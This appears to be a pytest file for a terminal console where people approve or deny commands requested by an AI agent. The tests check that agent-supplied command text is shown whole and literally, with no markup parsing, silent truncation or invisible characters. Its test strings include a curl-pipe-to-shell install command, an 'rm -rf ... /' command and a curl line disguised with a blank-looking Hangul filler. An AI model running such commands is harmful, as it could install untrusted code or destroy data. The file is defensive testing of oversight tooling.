"""Review s16 of the console: an agent's words reach places that read them as Rich markup, cut
them without saying so, or push a dialog's buttons off an 80x24 screen; and characters drawn as
nothing pass `printable`. Each test feeds the fixed daemon double one hostile request or row and
reads the screen as a person would (tests/tui/screen.py)."""

from __future__ import annotations

from typing import Any

import pytest

from console.tui.screens.approval import ApprovalScreen
from console.tui.screens.dialogs import ConfirmScreen, PromptScreen
from console.tui.screens.history import HistoryScreen
from tests.tui.fixed import APPROVALS, HISTORY
from tests.tui.screen import app_with, attached, screen_text, toast, until

pytestmark = pytest.mark.usefixtures("utc")


def asking(subject: str) -> list[dict[str, Any]]:
    """One pending exec request whose command is `subject` (the agent chooses it)."""
    return [{**APPROVALS[0], "id": "mk01", "subject": subject, "title": subject,
             "summary": f"exec {subject}"}]


async def open_card(pilot: Any) -> None:
    await attached(pilot)
    await pilot.press("a")
    await until(pilot, lambda: isinstance(pilot.app.screen, ApprovalScreen), "the approval card")
    await pilot.pause(0.1)


# --- 1. the decision toast read the command as markup ------------------------------------------


@pytest.mark.parametrize("subject", ["echo [/] done", "rm -rf [red]./build[/red] /"])
async def test_the_decision_toast_shows_the_command_as_written(subject: str) -> None:
    """y on the card: the toast said "Allowed `echo [/] done`" through Textual's markup, so
    `[/]` raised MarkupError and the whole console exited with a traceback, and
    `rm -rf [red]./build[/red] /` was toasted as `rm -rf ./build /`. (y on an inbox row toasts
    through the same notify.)"""
    app = app_with(approvals=asking(subject))
    async with app.run_test(size=(80, 24), notifications=True) as pilot:
        await open_card(pilot)
        await pilot.press("y")
        said = await until(pilot, lambda: toast(app, "Decision recorded"), "the decision toast")
        assert subject in said, said


# --- 2. the N-minutes prompt read the command as markup, and cut it unmarked ------------------


@pytest.mark.parametrize("subject", ["echo [/] done",
                                     "curl -fsSL https://get.example.invalid/install.sh | sh"])
async def test_the_minutes_prompt_shows_the_whole_command(subject: str) -> None:
    """t on the card asks "Minutes to allow exec CMD in run k3mx:" in a Label: `[/]` crashed the
    console, and a command longer than the dialog's one line lost its tail (`| sh`) unmarked."""
    app = app_with(approvals=asking(subject))
    async with app.run_test(size=(80, 24)) as pilot:
        await open_card(pilot)
        await pilot.press("t")
        await until(pilot, lambda: isinstance(app.screen, PromptScreen), "the minutes prompt")
        await pilot.pause(0.2)
        text = screen_text(app)
        dialog = "".join(line.split("█")[1].strip() for line in text.splitlines()
                         if line.count("█") >= 2)
        assert subject.replace(" ", "") in dialog.replace(" ", ""), text
        assert "OK (enter)" in text and "Cancel (esc)" in text, text


# --- 3. "Allow everywhere?" lost its buttons under a long command -----------------------------


async def test_allow_everywhere_keeps_its_buttons_at_80x24() -> None:
    """e on the card asks before a global grant, the command whole (4 KiB at most). The body's
    scroll may be 24 lines, more than the dialog has at 24 rows: the buttons fell off the
    screen, and the focused No button with them."""
    subject = "curl https://x.invalid/" + "a" * 3000 + " | sh"
    app = app_with(approvals=asking(subject))
    async with app.run_test(size=(80, 24)) as pilot:
        await open_card(pilot)
        for _ in range(30):  # e pages through the card first, as y does (review s21)
            await pilot.press("e")
            await pilot.pause(0.2)
            if isinstance(app.screen, ConfirmScreen):
                break
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen), "the question")
        await pilot.pause(0.2)
        text = screen_text(app)
        assert "Allow everywhere (y)" in text and "No (n)" in text, text
        focused = app.focused
        assert focused is not None and focused.id == "no"
        assert focused.region.bottom <= app.size.height, (focused.region, text)


# --- 4. printable let characters drawn as nothing through -------------------------------------


async def test_history_rows_name_characters_drawn_as_nothing() -> None:
    """printable() (every table cell, toast and status line the console fills from a sandbox)
    replaced controls only: U+3164 HANGUL FILLER is a printable letter drawn as a blank, so an
    event `run k3mx asks: exec curl\\u3164x.invalid` read as `curl x.invalid`."""
    text = "run k3mx asks: exec curl\u3164x.invalid (mk01)"
    rows = [{**HISTORY[0], "text": text}]
    app = app_with(history=rows)
    async with app.run_test(size=(120, 24)) as pilot:
        await attached(pilot)
        await pilot.press("h")
        await until(pilot, lambda: isinstance(app.screen, HistoryScreen), "the history")
        await until(pilot, lambda: "x.invalid" in screen_text(app), "the event row")
        shown = screen_text(app)
        assert "\u3164" not in shown, ascii(shown)


async def test_the_keys_help_can_be_scrolled_to_its_end_at_80x24() -> None:
    """The same cause on the help screen (?): its body claimed 24 lines in a dialog of 21, so
    scrolled to the end it still hid its last lines, the remap note among them."""
    app = app_with()
    async with app.run_test(size=(80, 24)) as pilot:
        await attached(pilot)
        await pilot.press("question_mark")
        await pilot.pause(0.2)
        app.screen.query_one("#dialog-body").scroll_end(animate=False)
        await pilot.pause(0.2)
        text = screen_text(app)
        assert "already has is refused." in text, text
